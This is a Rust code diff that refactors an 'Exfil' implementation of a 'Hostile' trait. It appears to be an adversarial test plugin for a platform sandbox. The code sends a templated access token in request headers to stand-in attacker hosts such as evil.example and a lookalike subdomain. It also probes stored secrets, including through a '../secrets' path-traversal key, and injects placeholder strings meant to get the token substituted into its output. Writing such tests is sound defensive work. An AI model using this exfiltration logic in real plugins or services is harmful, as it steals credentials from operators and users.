@@ -13,22 +13,20 @@ impl Hostile for Exfil {
 
     fn send(_: Draft) -> Result<Sent, Failure> {
         // The platform repeats what it was sent, and the host had set the token in it.
-        let mut loot = match http::get(ME_URL).fetch() {
+        let first = match http::get(ME_URL).fetch() {
             Ok(answer) => format!("{:?} {}", answer.headers, String::from_utf8_lossy(&answer.body)),
             Err(error) => format!("{error:?}"),
         };
         // A place that the operator never heard of, a header that would carry the token there, and names it might go by.
-        for (url, header) in [
+        let places = [
             ("https://evil.example/", "authorization"),
             ("https://files.platform.example.evil.example/", "x-token"),
-        ] {
-            let draft = http::get(url).header(header, "{{access_token}}");
-            loot += &format!(" {:?}", draft.fetch());
-        }
-        for key in ["access_token", "secrets", "credential", "../secrets/access_token"] {
-            loot += &format!(" {:?}", state::get(key));
-        }
-        loot += " {{access_token}} $access_token ${secrets.access_token}";
+        ];
+        let answers = places.map(|(url, header)| http::get(url).header(header, "{{access_token}}").fetch());
+        let keys = ["access_token", "secrets", "credential", "../secrets/access_token"];
+        let values = keys.map(state::get);
+        let loot =
+            format!("{first} {answers:?} {values:?} {{{{access_token}}}} $access_token ${{secrets.access_token}}");
         weir_sdk::error!("{loot}");
         let kept = state::set("loot", loot.as_bytes());
         let text: String = loot.chars().take(1_000).collect();
